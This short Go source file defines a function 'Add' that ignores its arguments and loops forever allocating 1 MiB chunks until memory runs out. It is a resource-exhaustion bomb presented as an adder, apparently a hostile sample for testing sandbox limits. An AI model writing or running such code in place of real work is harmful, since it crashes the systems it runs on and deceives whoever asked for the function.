package main

import (
	"bytes"
)

func Add(a int, b int) int {
	var hoard [][]byte
	for {
		hoard = append(hoard, bytes.Repeat([]byte{1}, 1<<20))
	}
}
